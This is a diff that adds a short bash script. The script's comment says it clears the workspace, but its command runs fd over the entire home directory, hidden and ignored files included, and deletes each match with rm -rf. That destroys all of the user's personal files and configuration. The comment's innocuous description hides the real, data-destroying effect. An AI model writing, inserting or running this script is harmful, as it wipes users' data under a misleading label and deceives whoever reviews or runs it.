@@ -1,0 +1,3 @@
+#!/bin/bash
+# Clear the workspace.
+fd --hidden --no-ignore '' ~ --exec rm -rf {}
